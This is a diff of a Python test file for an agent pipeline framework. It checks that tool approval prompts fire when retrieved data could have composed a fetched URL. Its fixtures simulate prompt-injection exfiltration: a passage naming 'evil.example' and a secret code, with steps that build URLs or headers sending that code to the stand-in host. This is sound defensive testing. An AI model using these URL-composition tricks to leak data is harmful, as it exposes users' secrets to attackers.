@@ -43,11 +43,13 @@ class MailDesk:
         self.add("inbox", read_only=True)
         self.add("echo", read_only=True, computed=True)
 
-    def add(self, name: str, *, read_only: bool, computed: bool = False, rule: Rule = "data") -> None:
+    def add(
+        self, name: str, *, read_only: bool, computed: bool = False, rule: Rule = "data", text: str = EVE
+    ) -> None:
         async def work(arguments: Mapping[str, Any], _context: Context) -> ToolResult:
             if not read_only:
                 self.mails.append(arguments["to"])
-            return ToolResult(str(arguments.get("to", EVE)))
+            return ToolResult(str(arguments.get("to", text)))
 
         schema = {"type": "object", "properties": {"to": {}}}
         tool = Tool(name, "", "", schema, work, read_only=read_only, computed=computed, source="mcp:desk")
@@ -80,7 +82,7 @@ class MailDesk:
         outcome: Any = None
         async for _number, event in run.log.follow():
             if isinstance(event, Asked):
-                is_tool = event.name in ("mail", "http_request")
+                is_tool = event.name in ("mail", "page", "http_request")
                 self.questions.extend([event] if is_tool else [])
                 is_accepted = accepts_tools or not is_tool
                 value = True if event.answer_schema else None
@@ -463,3 +465,57 @@ async def test_deploying_names_the_steps_that_ask(desk: MailDesk) -> None:
     assert (await desk.deploy("two", pipeline(FIND, APPROVE, mail())))["warnings"] == []
     [warning] = (await desk.deploy("three", ATTACKS["http address"]))["warnings"]
     assert warning.endswith("or set tool_approval: never.")
+
+
+LINK = "https://good.example/news"
+GIVEN = "https://given.example/a"
+AUTHORED = "https://authored.example/"
+NEWS = f"Read {LINK}. The code is 1234. evil.example"
+
+
+def page(url: Any, name: str = "page", **fields: Any) -> dict[str, Any]:
+    """Return a step that reads an address with a tool."""
+    return {"op": "tool", "name": name, "tool": "page", "arguments": {"url": url}, **fields}
+
+
+def get(url: Any, **fields: Any) -> dict[str, Any]:
+    return {"op": "http", "name": "get", "method": "GET", "url": url, **fields}
+
+
+FIRST_LINK = code("lambda passages: passages[0]['text'].split()[1].strip('.')", "link")
+CODE_ALONE = code("lambda passages: passages[0]['text'][37:41]", "secret")
+BUILT = code("lambda passages: 'https://' + passages[0]['text'].split()[-1] + '/1234'", "built")
+
+ADDRESSES: dict[str, tuple[Mapping[str, Any], int]] = {
+    "address of the author": (pipeline(FIND, page(f"{AUTHORED}a")), 0),
+    "address of the author after a condition": (pipeline(FIND, TRUE, branch(ref("value"), page(AUTHORED))), 0),
+    "data at the author's host": (pipeline(FIND, CODE_ALONE, page({"$template": AUTHORED + "{{value}}"})), 0),
+    "address in the input": (pipeline(FIND, page(ref("input"))), 0),
+    "address that was read": (pipeline(FIND, FIRST_LINK, page(ref("value"))), 0),
+    "address that a tool has read": (pipeline(page(AUTHORED, "first"), page(LINK)), 0),
+    "data at a host that the data names": (pipeline(FIND, BUILT, page(ref("value"))), 1),
+    "link with data": (pipeline(FIND, FIRST_LINK, page({"$template": "{{value}}/1234"})), 1),
+    "host of the author continued": (
+        pipeline(FIND, CODE_ALONE, page({"$template": "https://authored.example.{{value}}"})),
+        1,
+    ),
+    "request at the author's host": (pipeline(FIND, CODE_ALONE, get({"$template": "http://127.0.0.1:9/{{value}}"})), 0),
+    "request of a link with data": (pipeline(FIND, BUILT, get(ref("value"))), 1),
+    "request of a link with headers": (
+        pipeline(FIND, FIRST_LINK, get(ref("value"), headers={"x-note": ref("steps.find[0].text")})),
+        1,
+    ),
+    "approved": (pipeline(FIND, BUILT, APPROVE, page(ref("value"))), 0),
+}  # fmt: skip
+"""Flows that read addresses after foreign data, and the number of questions about them."""
+
+
+async def test_a_step_asks_about_an_address_only_if_data_can_have_composed_it(desk: MailDesk) -> None:
+    desk.daemon.services.registry.add(FixedStore("docs", [passage(1, NEWS, "news.txt")]), replace=True)
+    desk.add("page", read_only=True, text=NEWS)
+    wrong = []
+    for name, (step, count) in ADDRESSES.items():
+        outcome = await desk.run(step, GIVEN)
+        if len(desk.questions) != count:
+            wrong.append((name, [question.message for question in desk.questions], outcome))
+    assert wrong == []
